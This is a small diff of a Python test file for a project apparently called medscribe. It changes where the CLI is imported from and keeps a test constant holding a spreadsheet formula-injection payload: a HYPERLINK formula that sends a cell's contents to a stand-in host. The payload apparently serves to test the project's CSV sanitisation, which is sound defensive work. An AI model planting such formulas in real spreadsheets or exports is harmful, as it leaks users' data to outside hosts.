@@ -10,9 +10,9 @@ from pathlib import Path
 
 import pytest
 
-from medscribe.cli import main
 from medscribe.domain.selfheal import ScoreRow, report_csv
 from medscribe.domain.text_safety import csv_cell, printable
+from medscribe_local.cli import main
 from tests import FIXTURES
 
 FORMULA = '=HYPERLINK("http://example.invalid/?d="&A1,"click")'
